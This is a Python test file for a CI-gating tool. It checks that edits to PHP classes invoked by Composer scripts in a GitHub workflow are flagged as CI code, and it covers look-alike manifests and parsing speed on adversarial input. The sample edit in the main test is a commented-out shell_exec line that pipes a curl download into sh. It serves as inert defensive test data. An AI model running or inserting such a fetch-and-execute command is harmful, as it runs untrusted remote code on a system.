"""Misses 7: a PHP class a Composer script runs is the job's code (composerscripts.py). `composer run-script ci` (or
`composer ci`) runs `scripts.ci`; a value `Vendor\\\\Ns\\\\Class::method` is a static method Composer loads through
the project's autoload map (`psr-4`, `psr-0`, `classmap`), so the class's file is what the job runs. On b493f73c the
file stayed `src` and an edit was allowed (exit 0). Look-alikes: a manifest CI does not run, a
script that is a command (`php -r`, `@php`), a class by a variable."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.composerscripts import classes

WORKFLOW = ("name: ci\non: [push]\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: composer install\n      - run: {command}\n")
VARIANTS = [  # (command, scripts, autoload, the class's file)
    ("composer run-script ci", {"ci": "App\\Ci::run"}, {"psr-4": {"App\\": "tools/"}}, "tools/Ci.php"),
    ("composer ci", {"ci": ["@lint", "Vendor\\Build\\Checks::all"], "lint": "phpcs"},
     {"psr-4": {"Vendor\\Build\\": ["build/src/", "build/more/"]}}, "build/src/Checks.php"),
    ("composer run ci", {"ci": "Acme\\Tools\\Sub\\Lint::run"}, {"psr-4": {"Acme\\Tools\\": "dev"}},
     "dev/Sub/Lint.php"),
    ("composer run-script release", {"release": "Old\\Tool::go"}, {"psr-0": {"Old\\": "lib/"}}, "lib/Old/Tool.php"),
    ("composer run-script gen", {"gen": "Generator::main"}, {"classmap": ["scripts/"]}, "scripts/Generator.php"),
]
DEV_AUTOLOAD = ("composer run-script ci", {"ci": "App\\Dev\\Ci::run"},
                {"psr-4": {"App\\Dev\\": "ci/php/"}}, "ci/php/Ci.php")


def _manifest(scripts: dict[str, object], autoload: dict[str, object], dev: bool = False) -> str:
    return json.dumps({"name": "a/b", "scripts": scripts, "autoload-dev" if dev else "autoload": autoload}, indent=4)


@each_case("command, scripts, autoload, source", [*VARIANTS, DEV_AUTOLOAD])
def test_a_class_a_composer_script_runs_is_ci(tmp_path: Path, command: str, scripts: dict[str, object],
                                               autoload: dict[str, object], source: str) -> None:
    text = "<?php\nclass C { public static function run() {} }\n"
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "README.md": "x\n", source: text,
            "composer.json": _manifest(scripts, autoload, source.startswith("ci/"))}
    case = committed(tmp_path, base, {source: text + "// shell_exec('curl http://127.0.0.1:9/x | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0


def test_a_manifest_ci_does_not_run_names_nothing(tmp_path: Path) -> None:
    text = "<?php\nclass Deploy {}\n"
    workflow = "name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
    base = {".github/workflows/ci.yml": workflow, "README.md": "x\n",
            "composer.json": _manifest({"ci": "phpunit", "deploy": "App\\Deploy::run"}, {"psr-4": {"App\\": "src/"}}),
            "src/Deploy.php": text}
    case = committed(tmp_path, base, {"src/Deploy.php": text + "// x\n"})
    assert "core.ci" not in gated_rules(case, True)[1]


@each_case("text", ['{"scripts": {"ci": "phpunit"}}', '{"extra": {"providers": ["App\\\\P"]}}',
                    '{"scripts": {"ci": "php -r \\"echo 1;\\""}}', '{"scripts": {"ci": "@php artisan x"}}',
                    '{"scripts": {"x": "$C::run"}}'])
def test_look_alikes_name_nothing(text: str) -> None:
    assert classes("composer.json", text, text) == [], text


@each_case("hostile", [repeated('"A\\\\B::c", ', '{"scripts": {"x": ['), repeated("\\\\", '{"scripts": {"x": "A'),
                       repeated("::", '"')])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: classes("composer.json", text, text), hostile, budget=0.25)
